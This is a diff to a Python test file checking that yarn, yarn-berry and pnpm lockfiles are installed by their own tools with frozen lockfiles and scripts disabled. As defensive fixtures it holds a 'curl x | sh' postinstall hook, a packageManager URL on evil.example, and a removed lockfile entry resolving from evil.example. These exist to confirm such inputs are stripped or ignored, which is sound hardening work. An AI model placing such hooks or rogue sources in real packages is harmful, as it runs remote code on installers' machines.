@@ -9,8 +9,9 @@ import pytest
 from conftest import write_tree
 
 from gradelib.environment import read_declaration
-from gradelib.environment.nodeinstall import package_json
+from gradelib.environment.nodeinstall import package_json, setup_of
 from gradelib.environment.poetry import constraint, python_marker
+from gradelib.environment.tools import TOOLS
 
 REGISTRY = "https://registry.npmjs.org/"
 
@@ -246,27 +247,48 @@ undici@^6.21.0:
 """
 
 
-def test_yarn_lock_versions_are_installed_by_npm(tmp_path: Path) -> None:
-    write_tree(tmp_path, {"package.json": json.dumps(PACKAGE), "yarn.lock": YARN_LOCK})
+def test_a_yarn_lock_is_set_up_by_yarn_itself_frozen(tmp_path: Path) -> None:
+    package = {**PACKAGE, "resolutions": {"debug": "4.4.0"}, "scripts": {"postinstall": "curl x | sh"}}
+    write_tree(tmp_path, {"package.json": json.dumps(package), "yarn.lock": YARN_LOCK})
     declaration = read_declaration(tmp_path, registry=REGISTRY)
-    assert declaration.node is not None and declaration.node.locked is not None
+    assert declaration.node is not None and declaration.node.setup_lockfile == "yarn.lock"
+    assert declaration.node.setup_lock == YARN_LOCK.encode()
     reduced = package_json(declaration.node)
-    assert reduced["dependencies"] == {"undici": "6.29.1"}
-    assert reduced["devDependencies"] == {"mocha": "11.7.1"}
-    assert reduced["overrides"] == {"@types/node": "20.19.43"}  # debug is locked at two versions: npm resolves it
+    assert reduced["dependencies"] == {"undici": "^6.21.0"} and reduced["resolutions"] == {"debug": "4.4.0"}
+    assert "scripts" not in reduced
+    setup = setup_of(declaration.node)
+    assert setup is not None and (setup.tool, setup.version, setup.pinned_by) == (
+        "yarn",
+        TOOLS["yarn"].version,
+        "the kit",
+    )
+    assert "--frozen-lockfile" in setup.argv(REGISTRY) and "--ignore-scripts" in setup.argv(REGISTRY)
     [lock] = declaration.locks
-    assert lock.honoured and "1 packages locked at several versions" in lock.detail
+    assert lock.honoured and "set up by the tool that wrote it" in lock.detail
 
 
-def test_a_yarn_lock_entry_outside_the_registry_makes_it_unused(tmp_path: Path) -> None:
-    lock = YARN_LOCK + '\nleft-pad@^1.3.0:\n  version "1.3.0"\n  resolved "https://evil.example/left-pad-1.3.0.tgz"\n'
-    write_tree(tmp_path, {"package.json": json.dumps(PACKAGE), "yarn.lock": lock})
+@pytest.mark.parametrize(
+    ("manager", "tool", "version", "pinned_by"),
+    [
+        (None, "yarn-berry", TOOLS["yarn-berry"].version, "the kit"),
+        ("yarn@4.5.3", "yarn-berry", "4.5.3", "packageManager"),
+        ("yarn@4.5.3+sha512.abc", "yarn-berry", "4.5.3", "packageManager"),
+        ("yarn@1.22.19", "yarn-berry", TOOLS["yarn-berry"].version, "the kit"),  # not the tool that wrote the lock
+        ("pnpm@9.15.9", "yarn-berry", TOOLS["yarn-berry"].version, "the kit"),
+        ("yarn@https://evil.example/yarn.js", "yarn-berry", TOOLS["yarn-berry"].version, "the kit"),
+    ],
+)
+def test_a_berry_lock_is_set_up_by_berry_at_the_version_package_manager_names(
+    tmp_path: Path, manager: str | None, tool: str, version: str, pinned_by: str
+) -> None:
+    berry = '__metadata:\n  version: 8\n  cacheKey: 10c0\n\n"mocha@npm:^11.1.0":\n  version: 11.7.1\n'
+    package = {**PACKAGE, **({"packageManager": manager} if manager else {})}
+    write_tree(tmp_path, {"package.json": json.dumps(package), "yarn.lock": berry})
     declaration = read_declaration(tmp_path, registry=REGISTRY)
-    assert declaration.node is not None and declaration.node.locked is None
-    assert any("evil.example" in r.text for r in declaration.refused)
-    [use] = declaration.locks
-    assert not use.honoured and "resolved from package.json" in use.detail
-    assert package_json(declaration.node)["dependencies"] == {"undici": "^6.21.0"}
+    assert declaration.node is not None
+    setup = setup_of(declaration.node)
+    assert setup is not None and (setup.tool, setup.version, setup.pinned_by) == (tool, version, pinned_by)
+    assert "--immutable" in setup.argv(REGISTRY) and setup.env(REGISTRY)["YARN_ENABLE_SCRIPTS"] == "false"
 
 
 PNPM_LOCK = """lockfileVersion: '9.0'
@@ -309,25 +331,20 @@ snapshots:
 """
 
 
-def test_pnpm_lock_versions_are_installed_by_npm(tmp_path: Path) -> None:
-    package = {"dependencies": {"openai": "^6.49.0"}, "devDependencies": {"tsx": "^4.20.0"}}
+def test_a_pnpm_lock_is_set_up_by_pnpm_with_its_overrides(tmp_path: Path) -> None:
+    package = {
+        "dependencies": {"openai": "^6.49.0"}, "devDependencies": {"tsx": "^4.20.0"}, "packageManager": "pnpm@9.15.9",
+        "pnpm": {"overrides": {"zod": "4.6.7"}, "patchedDependencies": {"x": "patches/x.patch"}},
+    }  # fmt: skip
     write_tree(tmp_path, {"package.json": json.dumps(package), "pnpm-lock.yaml": PNPM_LOCK})
     declaration = read_declaration(tmp_path, registry=REGISTRY)
-    assert declaration.node is not None
+    assert declaration.node is not None and declaration.node.setup_lockfile == "pnpm-lock.yaml"
     reduced = package_json(declaration.node)
-    assert reduced["dependencies"] == {"openai": "6.49.0"} and reduced["devDependencies"] == {"tsx": "4.23.15"}
-    assert reduced["overrides"] == {"@esbuild/linux-x64": "0.28.2", "zod": "4.6.7"}
-    assert declaration.locks[0].file == "pnpm-lock.yaml" and declaration.locks[0].honoured
-
-
-def test_a_pnpm_lock_with_a_git_package_is_not_used(tmp_path: Path) -> None:
-    git = "\n  mylib@1.0.0:\n    resolution: {type: git, repo: x, commit: abc}\n"
-    lock = PNPM_LOCK.replace("\nsnapshots:", git + "\nsnapshots:")
-    write_tree(tmp_path, {"package.json": json.dumps(PACKAGE), "pnpm-lock.yaml": lock})
-    declaration = read_declaration(tmp_path, registry=REGISTRY)
-    assert declaration.node is not None and declaration.node.locked is None
-    assert not declaration.locks[0].honoured
-    assert any("not a registry package" in r.reason for r in declaration.refused)
+    assert reduced["pnpm"] == {"overrides": {"zod": "4.6.7"}} and "packageManager" not in reduced
+    setup = setup_of(declaration.node)
+    assert setup is not None and (setup.tool, setup.version) == ("pnpm", "9.15.9")
+    argv = setup.argv(REGISTRY)
+    assert "--frozen-lockfile" in argv and "--ignore-scripts" in argv and f"--config.registry={REGISTRY}" in argv
 
 
 def test_an_npm_lockfile_wins_over_yarn_and_pnpm(tmp_path: Path) -> None:
@@ -336,5 +353,5 @@ def test_an_npm_lockfile_wins_over_yarn_and_pnpm(tmp_path: Path) -> None:
     write_tree(tmp_path, files)
     declaration = read_declaration(tmp_path, registry=REGISTRY)
     assert declaration.node is not None and declaration.node.lockfile == "package-lock.json"
-    assert declaration.node.locked is None
+    assert declaration.node.setup_lockfile is None and setup_of(declaration.node) is None
     assert [lock.file for lock in declaration.locks] == ["package-lock.json"]
